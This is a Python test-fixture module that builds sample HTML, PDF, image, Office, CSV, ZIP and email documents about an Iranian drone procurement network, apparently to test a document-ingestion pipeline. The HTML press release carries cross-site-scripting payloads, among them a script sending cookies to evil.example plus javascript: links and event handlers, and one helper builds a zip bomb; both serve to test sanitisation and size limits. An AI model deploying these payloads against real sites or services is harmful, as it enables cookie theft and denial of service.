"""Test documents of every format, made with the real libraries (PDF by hand, as the PDF
1.4 specification lays it out), about networks other than the seed article's."""

from __future__ import annotations

import io
import zipfile
from email.message import EmailMessage

PRESS_RELEASE = """
<!DOCTYPE html>
<html lang="en"><head>
<meta charset="utf-8">
<title>Treasury Targets Procurement Network Supplying Iran's Drone Program</title>
<meta name="author" content="Office of Public Affairs">
<meta property="article:published_time" content="2024-02-14">
<script>alert('steal cookies'); document.location='http://evil.example/'+document.cookie</script>
<style>body {background: url(javascript:alert(1))}</style>
</head>
<body onload="alert('x')">
<nav><a href="/">Home</a> | <a href="/press">Press releases</a> | <a href="/about">About</a></nav>
<article>
<h1>Treasury Targets Procurement Network Supplying Iran's Drone Program</h1>
<p>WASHINGTON - Today, the Department of the Treasury's Office of Foreign Assets Control
(OFAC) sanctioned four entities and two individuals based in Iran, Hong Kong and China
for their roles in procuring components for Iran's unmanned aerial vehicle program.</p>
<p>Hong Kong-based front company Sky Wing Trading Limited purchased servo motors and
engines on behalf of Iran's Shahed Aviation Industries Research Center and shipped them
through Guangzhou Mingtai Electronics Co., Ltd. <a href="javascript:alert(1)">Read more</a></p>
<p onclick="steal()">Mr. Kaveh Samadi, the director of Sky Wing Trading Limited, arranged
payments through a bank account in Hong Kong.<img src=x onerror="alert(2)"></p>
<iframe src="http://evil.example/frame"></iframe>
</article>
<footer>Treasury Department | Privacy Policy | Contact</footer>
</body></html>
"""

PDF_PAGES = [
    "Case 1:23-cr-00412 United States v. Petrov\n"
    "The defendant exported microelectronics to Russia\n"
    "through a trading company in Armenia.",
    "Page two: the shipments continued until March 2023,\n"
    "when agents seized 1,200 integrated circuits.",
]


def _pdf_text(value: str) -> str:
    return value.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")


def make_pdf(pages: list[str], title: str | None = None) -> bytes:
    """A PDF with a text layer: one page per string, lines as written, Helvetica 12."""
    objects: list[bytes] = []
    page_ids = [4 + 2 * i for i in range(len(pages))]
    objects.append(b"<< /Type /Catalog /Pages 2 0 R >>")
    kids = " ".join(f"{n} 0 R" for n in page_ids)
    objects.append(f"<< /Type /Pages /Kids [{kids}] /Count {len(pages)} >>".encode())
    objects.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    for number, text in zip(page_ids, pages, strict=True):
        lines = text.split("\n")
        ops = ["BT", "/F1 12 Tf", "14 TL", "72 720 Td"]
        for line in lines:
            ops.append(f"({_pdf_text(line)}) Tj T*")
        ops.append("ET")
        stream = "\n".join(ops).encode("latin-1")
        objects.append(
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
            f"/Resources << /Font << /F1 3 0 R >> >> /Contents {number + 1} 0 R >>".encode()
        )
        objects.append(
            b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream"
        )
    info = None
    if title:
        objects.append(f"<< /Title ({_pdf_text(title)}) /Author (Court Clerk) >>".encode())
        info = len(objects)
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(f"{number} 0 obj\n".encode() + body + b"\nendobj\n")
    xref = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    for offset in offsets:
        out.write(f"{offset:010d} 00000 n \n".encode())
    trailer = f"<< /Size {len(objects) + 1} /Root 1 0 R"
    if info:
        trailer += f" /Info {info} 0 R"
    out.write(f"trailer\n{trailer} >>\nstartxref\n{xref}\n%%EOF\n".encode())
    return out.getvalue()


def make_scanned_pdf(text: str) -> bytes:
    """A PDF holding only a picture of ``text``: a scan, no text layer."""
    return _text_image(text, "PDF")


def make_png(text: str) -> bytes:
    return _text_image(text, "PNG")


def _text_image(text: str, fmt: str) -> bytes:
    from PIL import Image, ImageDraw, ImageFont

    image = Image.new("RGB", (1400, 120 + 70 * text.count("\n")), "white")
    draw = ImageDraw.Draw(image)
    font = ImageFont.load_default(size=44)
    draw.multiline_text((40, 40), text, fill="black", font=font, spacing=20)
    out = io.BytesIO()
    image.save(out, fmt, resolution=150.0) if fmt == "PDF" else image.save(out, fmt)
    return out.getvalue()


def make_docx(paragraphs: list[str], table: list[list[str]], title: str) -> bytes:
    import docx

    document = docx.Document()
    document.core_properties.title = title
    document.core_properties.author = "Compliance Desk"
    for text in paragraphs:
        document.add_paragraph(text)
    grid = document.add_table(rows=len(table), cols=len(table[0]))
    for r, row in enumerate(table):
        for c, value in enumerate(row):
            grid.cell(r, c).text = value
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


LEDGER_ROWS = [
    ["invoice", "date", "supplier", "buyer", "goods", "quantity", "amount", "currency"],
    ["INV-2023-0117", "2023-03-02", "Sky Wing Trading Limited", "Pishro Aviation Co",
     "servo motors", "400", "182000", "USD"],
    ["INV-2023-0121", "2023-04-19", "Guangzhou Mingtai Electronics Co., Ltd.",
     "Pishro Aviation Co", "piston engines", "60", "1350000", "CNY"],
]  # fmt: skip

LEDGER_MAPPING = """
entities:
  supplier:
    schema: Company
    keys: [supplier]
    properties:
      name: {column: supplier}
  buyer:
    schema: Company
    keys: [buyer]
    properties:
      name: {column: buyer}
  payment:
    schema: Payment
    keys: [invoice]
    properties:
      payer: {entity: buyer}
      beneficiary: {entity: supplier}
      amount: {column: amount}
      currency: {column: currency}
      date: {column: date}
      purpose: {column: goods}
      transactionNumber: {column: invoice}
"""


def make_csv(rows: list[list[str]]) -> bytes:
    import csv

    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode("utf-8")


def make_xlsx(rows: list[list[str]]) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append([int(v) if v.isdigit() else v for v in row])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def zip_bomb() -> bytes:
    """A small zip whose one member expands to 60 MB of zeros."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("payload.txt", b"\0" * (60 * 2**20))
    return out.getvalue()


def make_zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def make_email(attachments: dict[str, bytes]) -> bytes:
    message = EmailMessage()
    message["From"] = "Li Wei <li.wei@mingtai-electronics.example>"
    message["To"] = "Procurement <buy@pishro-aviation.example>, k.samadi@skywing.example"
    message["Cc"] = "Accounts <accounts@skywing.example>"
    message["Subject"] = "Invoice INV-2023-0121: engines shipped via Hong Kong"
    message["Date"] = "Wed, 19 Apr 2023 09:12:00 +0800"
    message["Message-ID"] = "<20230419091200.4711@mingtai-electronics.example>"
    message.set_content(
        "Dear Mr. Samadi,\n\nThe sixty piston engines left Guangzhou today for the Hong Kong "
        "warehouse of Sky Wing Trading Limited. Please arrange the payment of 1,350,000 yuan "
        "as agreed.\n\nRegards,\nLi Wei\nGuangzhou Mingtai Electronics Co., Ltd.\n"
    )
    for name, data in attachments.items():
        maintype, subtype = ("application", "octet-stream")
        if name.endswith(".xlsx"):
            maintype, subtype = "application", "vnd.ms-excel"
        message.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
    return message.as_bytes()
